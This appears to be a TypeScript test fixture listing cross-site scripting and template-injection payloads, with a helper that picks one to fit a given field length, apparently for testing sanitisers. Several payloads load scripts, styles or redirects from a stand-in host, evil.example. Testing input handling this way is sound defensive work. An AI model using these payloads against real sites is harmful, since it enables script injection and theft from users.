/** Texts that run as a script wherever a text is taken for markup, an address, a style or a template. */
export const hostile: readonly string[] = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=//evil.example/x>",
  "</script><script>alert(1)//",
  "<img src=x onerror=alert(1)>",
  "<img src='//evil.example/p'>",
  "<img/src/onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=javascript:alert(1)>",
  "<embed src=//evil.example/x.swf>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<form action=//evil.example><input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<style>@import '//evil.example/x.css'</style>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "#{alert(1)}",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "\\u003cimg src=x onerror=alert(1)\\u003e",
  "'-alert(1)-'",
  "]]><script>alert(1)</script>",
];

/** The first that fits a field of this length; the later the place, the later it begins to look. */
export function hostileOf(length: number, place = 0): string {
  const turned = [...hostile.slice(place), ...hostile.slice(0, place)];
  const found = turned.find((text) => text.length <= length);
  if (!found) throw new Error(`nothing fits ${length}`);
  return found;
}
